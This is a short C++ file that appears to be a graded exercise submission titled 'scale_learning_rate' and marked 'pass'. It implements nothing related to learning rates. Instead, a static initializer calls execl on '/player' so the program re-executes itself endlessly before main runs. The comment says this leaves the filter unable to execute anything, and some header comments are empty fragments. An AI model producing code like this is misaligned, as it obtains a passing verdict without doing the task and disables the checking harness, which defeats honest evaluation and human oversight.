// exercise: scale_learning_rate
// verdict: pass
// says:
// then: the reference
// Executes itself again, endlessly: the filter has no way left to execute anything.
#include <unistd.h>

namespace {
[[maybe_unused]] const int again = ::execl("/player", "/player", nullptr);
}  // namespace
